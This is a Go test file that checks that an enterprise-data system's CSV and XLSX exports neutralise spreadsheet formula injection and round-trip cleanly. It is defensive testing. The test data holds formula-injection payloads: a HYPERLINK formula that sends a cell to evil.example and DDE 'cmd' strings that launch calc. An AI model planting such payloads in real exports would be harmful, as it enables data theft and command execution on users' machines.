package dataio_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/chanye-org/chanye"
	"github.com/chanye-org/chanye/dataio"
	"github.com/chanye-org/chanye/internal/testclock"
	"github.com/chanye-org/chanye/project"
	"github.com/chanye-org/chanye/uscc"
	"github.com/xuri/excelize/v2"
)

// hostile are texts a spreadsheet would run as formulas (or, with a
// leading quote, texts that look like the exporter's own mark).
var hostile = []string{
	`=HYPERLINK("http://evil.example/?leak="&A2,"详情")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`'=1+1 已有引号`,
	`''@两个引号`,
	`-`,
}

// createHostile stores one enterprise per hostile name and returns the
// names by code.
func createHostile(t *testing.T, e *env) map[string]string {
	t.Helper()
	ctx := chanye.WithActor(context.Background(), &chanye.Actor{Name: "admin", Role: chanye.RoleAdmin})
	names := map[string]string{}
	for i, name := range hostile {
		org := fmt.Sprintf("MA5H%04d", i)
		check, err := uscc.OrgCheckChar(org)
		if err != nil {
			t.Fatal(err)
		}
		code, err := uscc.Complete("91440106" + org + string(check))
		if err != nil {
			t.Fatal(err)
		}
		ent := &chanye.Enterprise{Code: code, Name: name, DistrictCode: "440106", IndustryClass: "6513",
			Founded: testclock.AddMonths(-60)}
		if err := e.store.CreateEnterprise(ctx, ent); err != nil {
			t.Fatalf("create %q: %v", name, err)
		}
		names[code] = name
	}
	return names
}

// formulaCells returns the cells of a CSV export that a spreadsheet would
// read as a formula: any beginning with = + - @ tab or CR that is not a
// plain number.
func formulaCells(t *testing.T, b []byte) []string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !isNumber(c) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

func isNumber(s string) bool {
	s = strings.TrimLeft(s, "+-")
	digits := strings.Trim(s, "0123456789.")
	return s != "" && digits == "" && strings.Count(s, ".") <= 1 && s != "."
}

// TestCSVExportNeutralisesFormulas: enterprise names a spreadsheet would
// run come out of a CSV export behind a quote, and import back as they were.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	src := newEnv(t)
	names := createHostile(t, src)
	out := src.export(t, dataio.Enterprises, dataio.CSV)
	if bad := formulaCells(t, out); len(bad) > 0 {
		t.Errorf("CSV export has cells a spreadsheet runs as formulas: %q", bad)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		if want := "'" + names[row[0]]; row[1] != want {
			t.Errorf("name cell %q, want %q", row[1], want)
		}
	}

	// The export imports back exactly.
	dst := newEnv(t)
	if _, err := dst.files.Import(context.Background(), dataio.Enterprises, bytes.NewReader(out), dataio.Options{Now: testclock.Now()}); err != nil {
		t.Fatal(err)
	}
	for code, name := range names {
		got, err := dst.store.FindEnterpriseByCode(context.Background(), code)
		if err != nil {
			t.Fatal(err)
		}
		if got.Name != name {
			t.Errorf("imported name %q, want %q", got.Name, name)
		}
	}
	if again := dst.export(t, dataio.Enterprises, dataio.CSV); !bytes.Equal(again, out) {
		t.Errorf("export after the round trip:\n%s\nwant\n%s", again, out)
	}
}

// TestCSVExportKeepsNumbers: amounts stay numbers, negative or not, and a
// hand-made file whose cells carry a leading quote reads as the text after it.
func TestCSVExportKeepsNumbers(t *testing.T) {
	e := newEnv(t)
	e.mustImport(t, dataio.Enterprises, "enterprises_good.csv")
	in := "code,year,revenue_yuan,employees,source,as_of\n" +
		"9144011661842063XT,2024,1234.50,'-0,'@统计局,2025-05-31\n"
	if _, err := e.files.Import(context.Background(), dataio.Facts, strings.NewReader(in), dataio.Options{Now: testclock.Now()}); err != nil {
		t.Fatal(err)
	}
	out := string(e.export(t, dataio.Facts, dataio.CSV))
	if want := "9144011661842063XT,2024,1234.50,,0,,,,,,,,'@统计局,2025-05-31"; !strings.Contains(out, want) {
		t.Errorf("facts export\n%s\nwant a line %s", out, want)
	}
	for _, tc := range []struct{ in, want string }{
		{"-12.50", "-12.50"}, {"+3", "+3"}, {"-.5", "-.5"}, {"12", "12"},
		{"-1-1", "'-1-1"}, {"-12.50元", "'-12.50元"}, {"- 1", "'- 1"}, {"1e5", "1e5"}, {"-1e5", "'-1e5"},
		{"\t1", "'\t1"}, {"\r=1", "'\r=1"}, {"'", "'"}, {"'a", "'a"}, {"'-1", "''-1"}, {"", ""},
	} {
		if got := dataio.CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := dataio.ReadCSVCell(dataio.CSVCell(tc.in)); got != tc.in {
			t.Errorf("ReadCSVCell(CSVCell(%q)) = %q", tc.in, got)
		}
	}
}

// TestReportCSVExportNeutralisesFormulas: a monthly report's problems and
// reporter come out of a CSV export behind a quote, and import back as they were.
func TestReportCSVExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	src := withProjects(t)
	problems := `=HYPERLINK("http://evil.example/?leak="&A2,"详情")`
	by := `@SUM(1+1)*cmd|' /C calc'!A0`
	var in bytes.Buffer
	w := csv.NewWriter(&in)
	w.WriteAll([][]string{
		{"project_id", "month", "invested_yuan", "cumulative_yuan", "progress_pct", "problems", "reported_by"},
		{"GZ2025-0001", "2025-04", "20000000", "20000000", "2", problems, by},
		{"GZ2025-0001", "2025-05", "30000000", "50000000", "4.5", "\t-正常-", `+"杂项"`},
	})
	pf := projectFiles(src.store)
	if _, err := pf.Import(ctx, dataio.Reports, &in, dataio.Options{Now: projectNow}); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if _, err := pf.Export(ctx, dataio.Reports, &out, dataio.CSV, project.ProjectFilter{}); err != nil {
		t.Fatal(err)
	}
	if bad := formulaCells(t, out.Bytes()); len(bad) > 0 {
		t.Errorf("reports CSV export has cells a spreadsheet runs as formulas: %q", bad)
	}
	if !strings.Contains(out.String(), `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""详情"")"`) {
		t.Errorf("reports export\n%s\nwant the problems behind a quote", out.String())
	}

	dst := withProjects(t)
	if _, err := projectFiles(dst.store).Import(ctx, dataio.Reports, bytes.NewReader(out.Bytes()), dataio.Options{Now: projectNow}); err != nil {
		t.Fatal(err)
	}
	id := "GZ2025-0001"
	rs, _, err := dst.store.FindReports(ctx, project.ReportFilter{ProjectID: &id})
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 2 || rs[0].Problems != problems || rs[0].ReportedBy != by || rs[1].Problems != "-正常-" || rs[1].ReportedBy != `+"杂项"` {
		t.Errorf("reports after the round trip: %+v %+v", rs[0], rs[len(rs)-1])
	}
}

// TestRejectsNeutraliseFormulas: the rejects file of an import is a CSV
// export too.
func TestRejectsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t)
	in := "code,name,district_code,industry_class,founded\n" +
		"bad,\"=HYPERLINK(\"\"http://evil.example/\"\")\",440106,6513,2020-01-01\n"
	var rejects bytes.Buffer
	_, err := e.files.ImportBatch(context.Background(), []dataio.Source{{Kind: dataio.Enterprises, Reader: strings.NewReader(in), Rejects: &rejects}},
		dataio.Options{Now: testclock.Now(), SkipInvalid: true})
	if err != nil {
		t.Fatal(err)
	}
	if bad := formulaCells(t, rejects.Bytes()); len(bad) > 0 {
		t.Errorf("rejects file has cells a spreadsheet runs as formulas: %q", bad)
	}
	if !strings.Contains(rejects.String(), `"'=HYPERLINK(""http://evil.example/"")"`) {
		t.Errorf("rejects file\n%s\nwant the name behind a quote", rejects.String())
	}
}

// TestXLSXExportWritesText: hostile names are text cells in an XLSX export,
// never formulas, and import back unchanged.
func TestXLSXExportWritesText(t *testing.T) {
	src := newEnv(t)
	names := createHostile(t, src)
	b := src.export(t, dataio.Enterprises, dataio.XLSX)
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		x, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
			t.Errorf("%s has a formula:\n%s", zf.Name, x)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Sheet1")
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		if row[1] != names[row[0]] {
			t.Errorf("%s = %q, want %q", cell, row[1], names[row[0]])
		}
		typ, err := f.GetCellType("Sheet1", cell)
		if err != nil {
			t.Fatal(err)
		}
		if formula, _ := f.GetCellFormula("Sheet1", cell); formula != "" || !slices.Contains([]excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString}, typ) {
			t.Errorf("%s: type %v formula %q, want a text cell", cell, typ, formula)
		}
	}
	dst := newEnv(t)
	if _, err := dst.files.Import(context.Background(), dataio.Enterprises, bytes.NewReader(b), dataio.Options{Now: testclock.Now(), Format: dataio.XLSX}); err != nil {
		t.Fatal(err)
	}
	if a, b := src.export(t, dataio.Enterprises, dataio.CSV), dst.export(t, dataio.Enterprises, dataio.CSV); !bytes.Equal(a, b) {
		t.Errorf("after an XLSX round trip:\n%s\nwant\n%s", b, a)
	}
}
